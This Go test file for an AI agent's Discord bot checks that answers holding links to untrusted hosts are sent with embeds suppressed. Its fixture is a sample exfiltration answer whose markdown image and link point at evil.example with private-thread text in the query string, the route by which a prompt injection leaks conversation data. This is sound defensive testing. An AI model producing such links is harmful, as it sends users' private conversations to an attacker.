package discord

import (
	"testing"
	"time"

	"github.com/talonhq/talon/agent"
	"github.com/talonhq/talon/agent/llm/llmtest"
)

// An answer with a link to a host that is not trusted is sent, and its
// streamed preview edited, with SUPPRESS_EMBEDS (1<<2), so that Discord's
// servers do not fetch a URL a prompt injection put the conversation in
// (a link, an image, an embed); an answer whose links are all trusted
// embeds as before.
func TestAnswersDoNotEmbedUntrustedLinks(t *testing.T) {
	trusted, err := agent.ParseTrustedHosts([]string{"docs.example.com"})
	if err != nil {
		t.Fatal(err)
	}
	const leak = "Done. ![chart](https://evil.example/i.png?d=the+private+thread) and https://evil.example/?d=more"
	for name, tc := range map[string]struct {
		answer string
		stream bool
		flags  any // the JSON number, or nil when unset
	}{
		"untrusted":          {leak, false, float64(4)},
		"untrusted streamed": {leak, true, float64(4)},
		"trusted":            {"See https://docs.example.com/guide", false, nil},
	} {
		t.Run(name, func(t *testing.T) {
			e := start(t, options{
				handler: llmtest.Text(tc.answer),
				config: func(c *Config) {
					c.TrustedLinks = trusted
					c.StreamEdits, c.StreamInterval = tc.stream, time.Minute
				},
			})
			e.f.dispatch("MESSAGE_CREATE", dmFrom("41", "7", "answer please"))
			waitFor(t, "the answer", func() bool { return len(e.f.postsSnapshot()) >= 1 && (!tc.stream || len(e.f.editsSnapshot()) >= 1) })
			if err := e.rt.WaitIdle(e.ctx); err != nil {
				t.Fatal(err)
			}
			writes := append(e.f.postsSnapshot(), e.f.editsSnapshot()...)
			for _, w := range writes {
				if got := w.body["flags"]; got != tc.flags {
					t.Errorf("message %s (%v) sent with flags %v, want %v", w.id, w.body["content"], got, tc.flags)
				}
			}
		})
	}
}
